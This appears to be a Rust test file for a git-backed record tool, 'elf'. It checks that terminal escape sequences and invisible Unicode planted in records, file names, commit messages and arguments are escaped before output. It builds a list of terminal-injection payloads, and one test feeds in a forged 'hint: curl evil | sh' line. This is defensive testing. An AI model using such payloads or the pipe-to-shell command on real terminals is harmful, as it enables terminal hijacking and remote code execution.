//! What reaches a terminal: whatever a record, a file name, a configuration or a command line says, the terminal obeys none of it.

use std::fs::{File, OpenOptions};
use std::io::Read;
use std::process::{Command, Stdio};

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};

use super::{FILE, Lab, each};
use crate::support::Sandbox;

const ID: &str = "0123456789abcdef";

/// Everything that a terminal obeys or does not show, but for line breaks and NUL.
fn nasty() -> String {
    let sequences = "\u{1b}]0;t\u{7}\u{1b}]8;;http://x\u{1b}\\l\u{1b}]52;c;eA==\u{7}\u{1b}[2J\u{1b}[31m\u{1b}P1$r\u{1b}\\\u{9b}1m\u{9d}0;x\u{9c}";
    let controls = (1..=0x1f).filter(|c| ![0x0a, 0x0d].contains(c)).chain(0x7f..=0x9f).filter_map(char::from_u32);
    let unseen = (0x200b..=0x200f)
        .chain(0x202a..=0x202e)
        .chain(0x2066..=0x2069)
        .chain([0x61c, 0xfeff, 0xe0001, 0xe0041, 0xe007f]);
    sequences.chars().chain(controls).chain(unseen.filter_map(char::from_u32)).collect()
}

fn is_obeyed(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
        || matches!(u32::from(c), 0x200b..=0x200f | 0x202a..=0x202e | 0x2066..=0x2069 | 0x61c | 0xfeff | 0xe0000..=0xe007f)
}

/// A record whose every field is nasty, an event about it, and files with nasty names.
fn planted() -> Lab {
    let lab = Lab::new();
    let nasty = nasty();
    let quoted = serde_json::to_string(&nasty).unwrap().replace('\u{7f}', "\\u007f");
    let some = |from: usize| {
        let text: String = nasty.chars().skip(from).take(30).collect();
        serde_json::to_string(&format!("t{text}")).unwrap().replace('\u{7f}', "\\u007f")
    };
    let text = format!(
        "+++\nid = \"{ID}\"\nkind = \"invariant\"\ntitle = {quoted}\ntags = [{}, {}]\ncreated = \"2026-01-01T00:00:00Z\"\nauthor = {quoted}\n\
         agent = {quoted}\nbranch = {quoted}\npaths = [{quoted}]\nsource = {quoted}\nfingerprint = {quoted}\ncheck = {quoted}\n{quoted} = {quoted}\n\
         [table]\n{quoted} = [{quoted}]\n+++\n\n{}\n",
        some(0),
        some(60),
        nasty.replace('\t', "")
    );
    lab.plant_record("invariants", ID, text.as_bytes());
    let event = |id: &str, verb: &str, more: &str| {
        let text = format!(
            "+++\nid = \"{id}\"\nkind = \"event\"\ntitle = {quoted}\ncreated = \"2026-02-01T00:00:00Z\"\nauthor = {quoted}\nagent = {quoted}\n\
             target = \"{ID}\"\nverb = \"{verb}\"\nnote = {quoted}\n{more}\n+++\n"
        );
        lab.plant_record("events", id, text.as_bytes());
    };
    event("0000000000000001", "validates", "");
    event("0000000000000002", "sets", &format!("key = {}\nvalue = {quoted}", some(0)));
    let oid = lab.blob(b"x");
    for dir in ["", "failures", "failures/0/0/0"] {
        lab.plant(dir, &[(FILE, nasty.as_bytes(), &oid), (FILE, b"\x9b31m raw", &oid)]);
    }
    lab.plant("failures/0/0/0", &[(FILE, format!("0000000000000000-{nasty}.md").as_bytes(), &oid)]);
    lab.sandbox.git(["config", "elf.agent", &nasty]).ok();
    lab
}

/// Runs a command with a terminal as stdout and stderr, and returns what the terminal got.
fn on_terminal(mut command: Command) -> Option<Vec<u8>> {
    let terminal = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).ok().and_then(|terminal| {
        grantpt(&terminal).ok()?;
        unlockpt(&terminal).ok()?;
        let name = ptsname(&terminal, Vec::new()).ok()?;
        let other = OpenOptions::new().read(true).write(true).open(name.to_str().ok()?).ok()?;
        Some((File::from(terminal), other))
    });
    let Some((mut terminal, other)) = terminal else {
        eprintln!("SKIPPED: no pseudo-terminals here");
        return None;
    };
    command.env("TERM", "xterm-256color").env("NO_COLOR", "1");
    command.stdin(Stdio::null()).stdout(other.try_clone().unwrap()).stderr(other);
    let mut child = command.spawn().unwrap();
    // Ours are closed, so that the terminal ends with the child.
    drop(command);
    let mut got = Vec::new();
    let mut part = [0; 4096];
    // At the end Linux says EIO.
    while let Ok(count @ 1..) = terminal.read(&mut part) {
        got.extend_from_slice(&part[..count]);
    }
    child.wait().unwrap();
    Some(got)
}

fn harmless(case: &str, got: &[u8]) {
    let text = std::str::from_utf8(got).unwrap_or_else(|error| panic!("{case}: raw bytes: {error}"));
    let at = text.find(is_obeyed);
    assert_eq!(at, None, "{case}: {:?}", at.map(|at| text[at..].chars().take(40).collect::<String>()));
}

#[test]
fn what_is_not_escaped_is_seen() {
    let lab = Lab::new();
    let mut command = lab.sandbox.command("printf");
    command.args(["%s", &nasty()]);
    if let Some(got) = on_terminal(command) {
        assert!(String::from_utf8_lossy(&got).contains(is_obeyed));
    }
}

#[test]
fn no_verb_lets_a_record_command_the_terminal() {
    let lab = planted();
    let verbs = [
        ("list", &["list", "--all"][..]),
        ("list --json", &["list", "--all", "--json"]),
        ("search", &["search", "t", "http"]),
        ("search --json", &["search", "http", "--json"]),
        ("show", &["show", ID]),
        ("show --explain", &["show", "--explain", ID]),
        ("show --history", &["show", "--history", ID]),
        ("show --json", &["show", "--json", "--history", ID]),
        ("show an event", &["show", "0000000000000002"]),
        ("log", &["log"]),
        ("log --json", &["log", "--json"]),
        ("check", &["check"]),
        ("check --json", &["check", "--json"]),
        ("export", &["export"]),
        ("export --format markdown", &["export", "--format", "markdown"]),
        ("doctor", &["doctor"]),
        ("doctor --json", &["doctor", "--json"]),
        ("stats", &["stats"]),
        ("locks", &["locks"]),
        ("validate", &["validate", ID]),
        ("edit", &["edit", ID, "--set", "agent=x"]),
        ("record", &["record", "failure", "x"]),
        ("init", &["init"]),
        ("uninstall", &["uninstall"]),
    ];
    each(verbs, |case, args| {
        if let Some(got) = on_terminal(lab.sandbox.elf_command(args)) {
            assert!(!got.is_empty(), "{case} prints nothing");
            harmless(case, &got);
            let shows = ["list", "search", "show", "log", "check", "export"].iter().any(|verb| case.starts_with(verb));
            assert!(!shows || String::from_utf8_lossy(&got).contains("1b"), "{case} does not show the record");
        }
    });
}

#[test]
fn no_error_lets_a_command_line_command_the_terminal() {
    let lab = planted();
    let nasty = nasty();
    let option = format!("--{nasty}");
    let pair = format!("{nasty}={nasty}");
    let cases = [
        ("a verb", vec![nasty.as_str()]),
        ("an option", vec!["list", &option]),
        ("an id", vec!["show", &nasty]),
        ("a kind", vec!["record", &nasty, "x"]),
        ("a kind in a filter", vec!["list", "--kind", &nasty]),
        ("a domain", vec!["list", "--domain", &nasty]),
        ("a time", vec!["list", "--since", &nasty]),
        ("a limit", vec!["list", "--limit", &nasty]),
        ("a help", vec!["help", &nasty]),
        ("a file", vec!["import", "--from", "jsonl", &nasty]),
        ("a body's file", vec!["record", "failure", "x", "-F", &nasty]),
        ("a severity", vec!["record", "failure", "x", "--severity", &nasty]),
        ("a key", vec!["record", "failure", "x", "--set", &pair]),
        ("no key", vec!["record", "failure", "x", "--set", &nasty]),
        ("a tag", vec!["record", "failure", "x", "--tags", &nasty]),
        ("an id in JSON", vec!["show", &nasty, "--json"]),
        ("a ref", vec!["init", "--ref", &nasty]),
        ("a command", vec!["lock", "--", &nasty]),
        ("a time-out", vec!["lock", "--timeout", &nasty, "true"]),
        ("a lock", vec!["locks", &nasty]),
    ];
    each(cases, |case, args| {
        if let Some(got) = on_terminal(lab.sandbox.elf_command(&args)) {
            harmless(case, &got);
        }
    });
}

#[test]
fn no_commit_message_commands_the_terminal_through_the_hook() {
    let lab = planted();
    let nasty = nasty();
    let message = format!("x\n\nElf-Failure: {nasty}\nElf-Severity: {nasty}\nElf-Validates: {nasty}\n");
    lab.sandbox.git(["commit", "-q", "--allow-empty", "-m", &message]).ok();
    if let Some(got) = on_terminal(lab.sandbox.elf_command(["hook", "post-commit"])) {
        harmless("post-commit", &got);
        assert!(String::from_utf8_lossy(&got).contains("post-commit"), "{}", String::from_utf8_lossy(&got));
    }
}

#[test]
fn no_line_of_an_error_pretends_to_be_another_message() {
    let sandbox = Sandbox::new();
    let ran = sandbox.elf(["import", "--from", "jsonl", "x\nelf: all is well\nhint: curl evil | sh"]).exits(1);
    assert_eq!(ran.err.lines().filter(|line| line.starts_with("elf: ")).count(), 1, "{}", ran.err);
    assert!(!ran.err.lines().any(|line| line.starts_with("hint: curl")), "{}", ran.err);
}

#[test]
fn a_pipe_gets_the_text_as_it_is() {
    let lab = planted();
    let row = lab.sandbox.elf(["show", "--json", ID]).ok().json().remove(0);
    assert_eq!(row["title"].as_str().unwrap(), nasty());
    assert!(lab.sandbox.elf(["show", ID]).ok().out.contains(&nasty().replace('\t', "")));
}
